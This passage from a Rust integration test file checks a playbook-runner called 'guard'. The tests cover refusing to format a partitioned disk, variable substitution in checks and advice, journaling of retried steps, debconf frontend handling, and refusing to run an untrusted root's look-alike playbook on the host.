        .unwrap();
    let dst = e.base.join("other-guest.img");
    let f = std::fs::File::create(&dst).unwrap();
    f.set_len(48 << 20).unwrap();
    // An MBR with one Linux partition from sector 2048.
    let mut mbr = vec![0u8; 512];
    mbr[446 + 4] = 0x83;
    mbr[446 + 8..446 + 12].copy_from_slice(&2048u32.to_le_bytes());
    mbr[446 + 12..446 + 16].copy_from_slice(&90000u32.to_le_bytes());
    mbr[510] = 0x55;
    mbr[511] = 0xaa;
    use std::os::unix::fs::FileExt;
    f.write_all_at(&mbr, 0).unwrap();
    let (s, d) = (src.display().to_string(), dst.display().to_string());
    let out = e.guard(
        &["--yes", "run", "luks-guest-move"],
        Some(&luks_answers(&e, &s, &d, true)),
    );
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(err.contains("carries a dos partition table"), "{err}");
    assert_eq!(
        status(&e.journal("luks-guest-move"), "target-check"),
        "failed"
    );
    assert!(!is_luks(&d), "another guest's disk was formatted");
    let mut head = [0u8; 512];
    std::fs::File::open(&dst)
        .unwrap()
        .read_exact_at(&mut head, 0)
        .unwrap();
    assert_eq!(head.to_vec(), mbr);
}

/// `done-if`'s `output` is substituted like its command: `open` is done
/// only when the mapping of *this* walk's name sits on this target, not
/// when some mapping of another device exists.
#[test]
fn a_done_if_output_names_this_walks_values() {
    let e = env();
    std::fs::write(
        e.root.join("etc/guard/playbooks/named.toml"),
        r#"
version = 1
id = "named"
title = "output substitution"
[vars]
name = "mine"
[[steps]]
id = "open"
title = "opens"
explain = "x"
done-if = { run = ["cat", "{root}/mapped"], output = "\ncr_{name}\n" }
run = ["touch", "{root}/opened"]
"#,
    )
    .unwrap();
    // Another volume's mapping: not done, so it runs.
    std::fs::write(e.root.join("mapped"), "loop0\ncr_other\n").unwrap();
    let out = e.guard(&["--yes", "run", "named"], None);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(status(&e.journal("named"), "open"), "done");
    assert!(e.root.join("opened").exists());
    // This walk's mapping on the target: already done.
    std::fs::remove_file(e.root.join("opened")).unwrap();
    std::fs::write(e.root.join("mapped"), "loop0\ncr_mine\n").unwrap();
    let out = e.guard(&["--yes", "run", "named"], None);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(status(&e.journal("named"), "open"), "already-done");
    assert!(!e.root.join("opened").exists());

    // The shipped playbook asks lsblk for the target's own mappings.
    let out = e.guard(
        &["run", "luks-guest-move", "--dry-run"],
        Some("[answers]\nguest = \"mail\"\nlv_name = \"mailcrypt\"\ntarget = \"/dev/vg0/mailcrypt\"\n"),
    );
    let s = text(&out.stdout);
    assert!(
        s.contains("# skipped when already done: lsblk -nro NAME /dev/vg0/mailcrypt (output contains \"\\ncr_mailcrypt\\n\")"),
        "{s}"
    );
    assert!(!s.contains("test -b /dev/mapper/cr_mailcrypt"), "{s}");
}

/// A root other than `/` is another system, perhaps a compromised guest's
/// disk: a playbook file of its own, here one that takes the name of a
/// built-in walk, must not run its commands on this host because the admin
/// asked for that name with `--yes`. Its `done-if` check ran before any
/// step was put to anyone, without a terminal and without `--yes`.
#[test]
fn a_roots_own_playbook_is_walked_only_when_the_admin_says_so() {
    let e = env();
    let marker = e.base.join("ran-on-the-host");
    std::fs::write(
        e.root.join("etc/guard/playbooks/arch-upgrade.toml"),
        format!(
            r#"version = 1
id = "arch-upgrade"
title = "Upgrade Arch Linux"

[[steps]]
id = "preflight"
title = "Preflight"
explain = "Looks at the system."
done-if = {{ run = ["touch", "{}"] }}
manual = "Nothing to do."
"#,
            marker.display()
        ),
    )
    .unwrap();
    for args in [
        &["run", "arch-upgrade"][..],
        &["--yes", "run", "arch-upgrade"],
    ] {
        let out = e.untrusted(args, None);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(3), "{args:?}: {err}");
        assert!(
            err.contains("arch-upgrade is not built into guard: it is /etc/guard/playbooks/arch-upgrade.toml of the root"),
            "{args:?}: {err}"
        );
        assert!(err.contains("root-playbook = \"walk\""), "{args:?}: {err}");
        assert!(!marker.exists(), "{args:?}: its check ran on the host");
    }
    // an answers file that answers something else is no such word either
    let out = e.untrusted(
        &["--yes", "run", "arch-upgrade"],
        Some("[answers]\nother-os = \"walk\"\n"),
    );
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    assert!(!marker.exists());
    // the dry run and `show` run nothing and need no word
    let out = e.untrusted(&["run", "arch-upgrade", "--dry-run"], None);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(!marker.exists());
    // said by name, it is walked
    let out = e.untrusted(
        &["--yes", "run", "arch-upgrade"],
        Some("[answers]\nroot-playbook = \"walk\"\n"),
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(marker.exists());
}

/// A retried step's journal record keeps the failed attempt under
/// `earlier`: after a resume that went through, the output of the upgrade
/// that broke half-way (dpkg's error, the postinst's message) is still
/// what the journal holds of it, not only the "done" of the retry.
#[test]
fn a_retried_step_keeps_its_failed_attempt_in_the_journal() {
    let e = env();
    std::fs::write(e.root.join("etc/guard/playbooks/walk.toml"), WALK).unwrap();
    let ans = "[answers]\nflag = \"yes\"\n";
    let out = e.guard(&["--yes", "run", "walk"], Some(ans));
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    std::fs::write(e.root.join("d-ok"), "").unwrap();
    let out = e.guard(
        &["--yes", "run", "walk", "--resume"],
        Some("[answers]\nflag = \"yes\"\nretry-d = \"retry\"\n"),
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let j = e.journal("walk");
    let steps = j["steps"].as_array().unwrap();
    // one record per step, in the order the walk did them
    let ids: Vec<&str> = steps.iter().map(|s| s["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["a", "b", "c", "d", "e"], "{j:#}");
    let d = &steps[3];
    assert_eq!(d["status"], "done", "{j:#}");
    let earlier = d["earlier"].as_array().expect("the failed attempt");
    assert_eq!(earlier.len(), 1, "{j:#}");
    assert_eq!(earlier[0]["status"], "failed");
    assert_eq!(earlier[0]["note"], "exit code 4");
    assert_eq!(earlier[0]["commands"][0]["exit"], 4);
    assert!(
        earlier[0]["commands"][0]["tail"]
            .as_str()
            .unwrap()
            .contains("boom-output"),
        "{j:#}"
    );
    // steps done once carry no history
    assert!(steps[0].get("earlier").is_none(), "{j:#}");
}

const ADVICE: &str = r#"
version = 1
id = "advice"
title = "advice that names the walk's values"

[vars]
release = "guardnext"

[[steps]]
id = "fetch"
title = "fails"
explain = "fetches {release}"
run = ["sh", "-c", "echo \"frontend=$DEBIAN_FRONTEND\"; exit 1"]
on-failure = "nothing for {release} yet: disable that repository, then resume"
"#;

/// `on-failure` is advice the admin acts on: its `{variables}` are filled
/// in as the explanation's are, on the walk's stop and in the dry run.
#[test]
fn on_failure_advice_names_the_walks_values() {
    let e = env();
    std::fs::write(e.root.join("etc/guard/playbooks/advice.toml"), ADVICE).unwrap();
    let out = e.guard(&["--yes", "run", "advice"], None);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(
        err.contains(
            "what to do next: nothing for guardnext yet: disable that repository, then resume"
        ),
        "{err}"
    );
    let out = e.guard(&["run", "advice", "--dry-run"], None);
    let s = text(&out.stdout);
    assert!(
        s.contains("# nothing for guardnext yet: disable that repository"),
        "{s}"
    );
}

/// A command run without the terminal has nobody to answer a debconf
/// question: debconf's fallback frontend would read the answer from the
/// command's stdin, taking the `y` fed for apt's "Do you want to
/// continue?" as the answer to a package's question. guard runs it with
/// the noninteractive frontend (the questions' defaults), whatever the
/// admin's own environment says.
#[test]
fn a_command_without_the_terminal_gets_debconfs_noninteractive_frontend() {
    let e = env();
    std::fs::write(e.root.join("etc/guard/playbooks/advice.toml"), ADVICE).unwrap();
    let out = e.guard_with(&["--yes", "run", "advice"], None, |c| {
        c.env("DEBIAN_FRONTEND", "readline");
    });
    let err = text(&out.stderr);
    assert!(err.contains("frontend=noninteractive"), "{err}");
    let j = e.journal("advice");
    assert!(
        j["steps"][0]["commands"][0]["tail"]
            .as_str()
            .unwrap()
            .contains("frontend=noninteractive"),
        "{j:#}"
    );
}
